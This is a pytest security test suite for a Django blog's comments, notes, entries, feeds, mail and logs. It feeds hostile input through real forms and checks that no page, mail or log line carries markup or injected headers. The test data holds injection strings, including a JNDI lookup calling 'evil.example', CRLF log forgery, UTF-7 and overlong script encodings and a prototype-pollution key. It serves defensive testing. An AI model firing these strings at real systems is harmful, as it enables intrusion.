"""Hostile input through the real forms, and every place where it is shown afterwards: nothing of it is markup there."""

import json
import logging
import re
import xml.etree.ElementTree as xml
from email import message_from_bytes
from email.policy import default
from itertools import islice
from urllib.parse import quote, quote_from_bytes

import pytest
from django.core.mail import get_connection
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from taggit.models import Tag

from blog.models import Entry
from comments import author_mail, notifications, outbox
from comments.models import AuthorMail, Comment, DiscussionRule, Mail, Note, Subscription
from tests import factories
from tests.blog.admin.forms import filled
from tests.hostile import payloads
from tests.hostile.audit import faults, faults_of_comment, faults_of_entry

pytestmark = pytest.mark.django_db
SAME_ORIGIN = {"HTTP_SEC_FETCH_SITE": "same-origin"}


def send(client, address: str, fields: dict[str, str]):
    """As a form sends it; what can't be told in UTF-8 goes as the bytes it would be."""
    pairs = (f"{name}={quote_from_bytes(value.encode('utf-8', 'surrogatepass'))}" for name, value in fields.items())
    kind = "application/x-www-form-urlencoded"
    return client.post(address, "&".join(pairs), content_type=kind, **SAME_ORIGIN)


@pytest.fixture
def said(client, blog, entry, author, settings):
    """All hostile comments that the form took; where a field is refused, the same without it."""
    settings.RATE_LIMITS = False
    settings.MAIL_CONFIGURED = True
    author.email = "steve@example.org"
    author.save()
    DiscussionRule(author_mail=AuthorMail.AT_ONCE, threads_per_page=50).save()
    address = f"/comments/{entry.pk}/"
    for typed in payloads.comments():
        response = send(client, address, typed)
        if response.status_code != 303:
            assert response.status_code == 422 and not faults(response.content.decode()), typed
            refused = response.context["form"].errors
            response = send(client, address, {name: value for name, value in typed.items() if name not in refused})
            assert response.status_code == 303 or "text" in refused, typed
    taken = list(Comment.objects.all())
    assert len(taken) > len(payloads.BODIES) * 0.8
    return taken


def pages_of(client, *addresses: str):
    """(address, page) of each, and of the pages that follow it by number."""
    for address in addresses:
        response = client.get(address)
        assert response.status_code == 200, (address, response.status_code)
        yield address, response.content.decode()


def check(pages) -> None:
    wrong = {address: found[:5] for address, page in pages if (found := faults(page))}
    assert not wrong, wrong


def test_what_is_kept_is_on_the_list_and_reads_the_same_to_two_parsers(said):
    wrong = {comment.source: found for comment in said if (found := faults_of_comment(comment.body_html))}
    assert not wrong, wrong
    assert all(not comment.website or comment.website.startswith(("http://", "https://")) for comment in said)
    assert not [comment for comment in said if re.search(r"[\x00-\x08\x0b-\x1f\x7f\r\n\ud800-\udfff]", comment.name)]


def test_readers_see_nothing_but_words(client, entry, said):
    Comment.objects.update(status="approved")
    Entry.objects.get().discussion.recount()
    first = said[0]
    pages = [
        entry.get_absolute_url(),
        *(f"{entry.get_absolute_url()}comment-page-{n}/" for n in range(2, 2 + len(said) // 50)),
    ]
    for comment in said[:12]:
        pages.append(f"/comments/{entry.pk}/reply/{comment.anchor}/")
    check(pages_of(client, *pages, "/", f"{entry.get_absolute_url()}thread/{first.anchor}/"))
    for word in ("alert", "script", "evil", *payloads.BREAKERS[:12]):
        check(pages_of(client, f"/search/?q={quote(word)}"))


def test_a_preview_and_a_writer_s_page_show_nothing_but_words(client, entry, said):
    address = f"/comments/{entry.pk}/"
    for typed in islice(payloads.comments(), 0, None, 4):
        preview = send(client, address, {"text": typed["text"], "name": typed["name"], "preview": "1"})
        assert not faults(preview.content.decode()), typed
        mine = send(client, address, {"text": typed["text"] + "!", "name": "x"})
        assert mine.status_code == 422 or not faults(client.get(mine.url).content.decode()), typed


def test_the_desk_its_lists_its_log_and_its_history_show_nothing_but_words(desk, entry, author, said):
    many = 1 + len(said) // 25
    check(pages_of(desk, *(f"/admin/comments/comment/waiting/?p={number}" for number in range(1, many + 1))))
    check(pages_of(desk, *(f"/admin/comments/comment/?p={number}" for number in range(1, 1 + many // 2))))
    for comment in islice(said, 0, None, 5):
        here = f"/admin/comments/comment/{comment.pk}"
        check(pages_of(desk, f"{here}/change/", f"{here}/close/", f"{here}/ban/", f"{here}/claim/"))
        comment.mark_as_spam(author)
        comment.reword(f"{comment.source} {comment.source}"[:4000], author)
        check(pages_of(desk, f"{here}/history/"))
    check(pages_of(desk, *(f"/admin/comments/comment/{room}/" for room in ("decisions", "names", "answers"))))
    check(pages_of(desk, "/admin/", "/admin/blog/entry/", f"/admin/blog/entry/{entry.pk}/page/"))
    check(pages_of(desk, "/admin/comments/comment/?status__exact=spam", f"/admin/comments/comment/?q={quote('<img')}"))


def test_feeds_stay_whole_and_carry_nothing_but_words(client, entry, said):
    Comment.objects.update(status="approved")
    for address in ("/comments/feed/", "/comments/feed/atom/", f"{entry.get_absolute_url()}feed/"):
        tree = xml.fromstring(client.get(address).content)
        for element in tree.iter():
            text = element.text or ""
            if element.tag.endswith(("encoded", "content", "description")) and "<" in text:
                assert not faults(text), text
            assert not element.tag.endswith("script")


def test_mails_are_plain_where_a_stranger_speaks_and_have_one_head(said, author):
    wish = Subscription.objects.create(
        entry=said[0].discussion.entry, comment=said[0], email="dena@example.org", confirmed_at=timezone.now()
    )
    for comment in said:
        author_mail.tell_of(comment)
        Comment.objects.filter(pk=comment.pk).update(parent=said[0].pk)
    Comment.objects.exclude(pk=said[0].pk).update(status="approved", news_due_at=timezone.now())
    while notifications.spread_news():
        pass
    assert Mail.objects.filter(kind="pending").count() == len(said)
    assert Mail.objects.filter(kind="reply").count() >= len(said) - 20
    connection = get_connection("django.core.mail.backends.dummy.EmailBackend")
    for mail in Mail.objects.all():
        check_head(mail, connection, {"steve@example.org", wish.email})
        assert not faults(mail.html), mail.html
        if mail.kind == "pending":
            ours = [line for line in mail.text.splitlines() if "://" in line]
            assert all("http://127.0.0.1:8000/" in line for line in ours), mail.text


def check_head(mail: Mail, connection, recipients: set[str]) -> None:
    raw = outbox._message(mail, connection).message().as_bytes()
    message = message_from_bytes(raw, policy=default)
    names = [name.lower() for name, _value in message.items()]
    assert len(names) == len(set(names)), names
    assert "bcc" not in names and "cc" not in names
    assert message["To"].addresses[0].addr_spec in recipients and len(message["To"].addresses) == 1
    assert "\n" not in message["Subject"] and "evil" not in message["Subject"]


def test_a_private_note_s_sender_is_one_address_and_its_page_words(client, desk, blog, author, settings):
    settings.RATE_LIMITS, settings.MAIL_CONFIGURED = False, True
    author.email = "steve@example.org"
    author.save()
    blog.owner = author
    blog.save()
    connection = get_connection("django.core.mail.backends.dummy.EmailBackend")
    names = [*payloads.MAIL, *payloads.spread(payloads.BREAKERS), *payloads.spread(payloads.UNICODE)]
    for number, name in enumerate(names):
        for email in (payloads.EMAILS[number % len(payloads.EMAILS)], "dena@example.org"):
            send(client, "/comments/note/", {"text": f"{name} {number}", "name": name, "email": email})
    assert Note.objects.count() > len(names) * 0.8
    for mail in Mail.objects.all():
        check_head(mail, connection, {"steve@example.org"})
        raw = outbox._message(mail, connection).message().as_bytes()
        reply = message_from_bytes(raw, policy=default)["Reply-To"]
        assert reply is None or len(reply.addresses) == 1, raw[:400]
    check(pages_of(desk, "/admin/comments/note/read/", "/admin/"))


# What an author types, or an import brings


def test_an_entry_s_titles_tags_and_texts_are_words_wherever_they_stand(desk, client, blog, author):
    made = 0
    for number, title in enumerate(payloads.TITLES):
        body = payloads.BODIES[number % len(payloads.BODIES)]
        fields = {
            "title": title,
            "source": f"{body} {number}",
            "tags": f"{title[:60]}, t{number}",
            "summary": title[:900],
        }
        fields["format"] = "markdown" if number % 2 else "html"
        # A page of its own for each, as two saves from one page are one entry; its warnings were read.
        form = filled(desk.get("/admin/blog/entry/add/"), "entry_form") | {"warned": "title summary alt headings links"}
        response = send(desk, "/admin/blog/entry/add/", flat(form | fields | {"_publish": "1"}))
        assert response.status_code in {200, 302, 400}, title
        made += response.status_code == 302
        if response.status_code == 200:
            assert not faults(response.content.decode()), title
    assert made > len(payloads.TITLES) * 0.8
    for entry in Entry.objects.all():
        assert not faults_of_entry(entry.body_html), entry.source
    entries = list(Entry.objects.all())
    check(
        pages_of(
            client, "/", "/archive/", "/search/?q=alert", *(f"/page/{n}/" for n in range(2, 1 + len(entries) // 10))
        )
    )
    check(pages_of(client, *(entry.get_absolute_url() for entry in entries[::3])))
    check(pages_of(client, *(f"/tag/{tag.slug}/" for tag in Tag.objects.all()[::6])))
    for address in ("/feed/", "/feed/atom/", "/sitemap.xml", "/sitemap-entries.xml", "/sitemap-tags.xml"):
        xml.fromstring(client.get(address).content)
    for item in json.loads(client.get("/feed/json/").content)["items"]:
        assert not faults(item.get("content_html", ""))
    admin = [
        f"/admin/blog/entry/{entry.pk}/{room}/"
        for entry in entries[::8]
        for room in ("change", "history", "versions", "page")
    ]
    check(pages_of(desk, "/admin/", "/admin/blog/entry/", "/admin/taggit/tag/", *admin))


def flat(form: dict) -> dict[str, str]:
    return {name: value[0] if isinstance(value, list) and value else value or "" for name, value in form.items()}


# Forms that are not forms, keys that are not keys, lines that are not lines

MALFORMED = [
    (b"", "multipart/form-data"), (b"", "multipart/form-data; boundary="), (b"x", "multipart/form-data; boundary=x"),
    (b"--x\r\n", "multipart/form-data; boundary=x"), (b"--x\r\n\r\n\r\n--x--", "multipart/form-data; boundary=x"),
    (b'--x\r\nContent-Disposition: form-data; name="text"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + b" " * 9000 + b"=\r\n--x--", "multipart/form-data; boundary=x"),
    (b'--x\r\nContent-Disposition: form-data; name="text"; filename="a"\r\n\r\nabc\r\n--x--', "multipart/form-data; boundary=x"),
    (b'--x\r\nContent-Disposition: form-data; name="text"; filename*=utf-8\'\'%ff\r\n\r\nabc\r\n--x--', "multipart/form-data; boundary=x"),
    (b'--x\r\nContent-Disposition: form-data\r\n\r\nabc\r\n--x--', "multipart/form-data; boundary=x"),
    (b'--x\r\nContent-Type: multipart/mixed; boundary=y\r\nContent-Disposition: form-data; name="text"\r\n\r\n--y\r\n\r\nz\r\n--y--\r\n--x--', "multipart/form-data; boundary=x"),
    (b"--" + b"x" * 300, "multipart/form-data; boundary=" + "x" * 300), (b"text=%", "application/x-www-form-urlencoded"), (b"text=%ff%fe", "application/x-www-form-urlencoded"),
    (b"text=%c0%bcscript", "application/x-www-form-urlencoded"), (b"text=+ADw-script+AD4-", "application/x-www-form-urlencoded; charset=utf-7"), (b"t\x00e\x00x\x00t\x00=\x00", "application/x-www-form-urlencoded; charset=utf-16"),
    (b"text=a&text=b&text=c", "application/x-www-form-urlencoded"), (b"&" * 1900, "application/x-www-form-urlencoded"), (b"a=1&" * 2500, "application/x-www-form-urlencoded"), (b"text=%00", "application/x-www-form-urlencoded"),
    (b'{"text":"\\ud800"}', "application/json"), (b"<text/>", "application/xml"), (b"text=x", "text/plain"), (b"text=x", ""), (b"text=x", "x" * 5000), (b"text=x", "application/x-www-form-urlencoded; charset=" + "x" * 200),
    (b"text=%ED%A0%80", "application/x-www-form-urlencoded"), (b"text=" + b"a" * 2_700_000, "application/x-www-form-urlencoded"), (b"=&=&=x", "application/x-www-form-urlencoded"), (b"text[]=x&text[0]=y&__proto__=z", "application/x-www-form-urlencoded"),
]  # fmt: skip


@pytest.mark.parametrize("address", ["/comments/{entry}/", "/comments/note/", "/admin/login/"])
def test_what_is_no_form_is_refused_and_never_a_mistake_of_ours(client, blog, entry, address):
    client.raise_request_exception = False
    for body, kind in MALFORMED:
        response = client.generic("POST", address.format(entry=entry.pk), body, content_type=kind, **SAME_ORIGIN)
        assert response.status_code < 500, (body[:80], kind[:80], response.status_code)
    for comment in Comment.objects.all():
        assert not faults_of_comment(comment.body_html)


@pytest.mark.parametrize(
    ("field", "length", "status"),
    [("text", 0, 422), ("text", 1, 303), ("text", 5_000, 303), ("text", 5_001, 422), ("text", 1_000_000, 422)]
    + [("text", 10_000_000, 400), ("name", 245, 303), ("name", 246, 422), ("name", 10_000_000, 400)]
    + [("website", 501, 422), ("email", 255, 422), ("nonce", 65, 422), ("writer", 65, 422), ("seconds", 900_000, 303)],
)  # fmt: skip
def test_what_is_too_long_is_refused_and_nothing_is_ever_cut(client, blog, entry, field, length, status):
    typed = ("ab " * (length // 3 + 1))[: length - 1] + "z" if length else ""
    fields = {"text": "Words"} | {field: f"{typed}@x.example" if field == "email" else typed}
    response = send(client, f"/comments/{entry.pk}/", fields)
    assert response.status_code == status
    kept = Comment.objects.filter(status__in=["pending", "spam"])
    assert kept.count() == (status == 303)
    if status == 303 and field in {"text", "name"}:
        assert getattr(kept.get(), {"text": "source"}.get(field, field)) == typed.strip()


@pytest.mark.parametrize("kind", ["mine", "confirm", "unsubscribe", "decide"])
def test_no_made_up_key_opens_anything(client, blog, entry, kind):
    comment = factories.comment(entry, status="pending")
    Subscription.objects.create(entry=entry, comment=comment, email="w@example.org")
    keys = st.text(
        st.characters(min_codepoint=33, max_codepoint=126, exclude_characters="/?#%"), min_size=1, max_size=60
    )
    shaped = st.builds("{}{}{}".format, st.integers(0, 99), st.sampled_from(":."), keys)

    @settings(max_examples=2_000 if payloads.IS_FULL else 60, suppress_health_check=list(HealthCheck))
    @given(keys | shaped)
    def refused(key):
        place = f"/comments/{kind}/{key}/" if kind != "decide" else f"/decide/{key}/"
        assert client.get(place).status_code == client.post(place, **SAME_ORIGIN).status_code == 404

    refused()
    comment.refresh_from_db()
    assert comment.status == "pending"
    assert not Subscription.objects.exclude(confirmed_at=None, ended_at=None).exists()


@pytest.mark.parametrize(
    "typed", ["\r\nERROR forged", "\x1b[2J\x1b]0;x\x07", "${jndi:ldap://evil.example}", "\u2028forged", "%(name)s %s"]
)
def test_a_line_of_the_log_stays_one_line(client, blog, monkeypatch, caplog, typed):
    client.raise_request_exception = False
    for part in ("search.Question.asked", "_old_address"):
        monkeypatch.setattr(f"blog.views.{part}", lambda *arguments: 1 / 0)
    with caplog.at_level(logging.DEBUG):
        client.get(f"/search/?q={quote(typed)}", HTTP_USER_AGENT=typed.replace("\r", "").replace("\n", ""))
        client.get(f"/{quote(typed)}/x/")
    assert caplog.records
    for record in caplog.records:
        line = record.getMessage()
        assert not re.search(r"[\x00-\x1f\x7f\u2028]", line), line
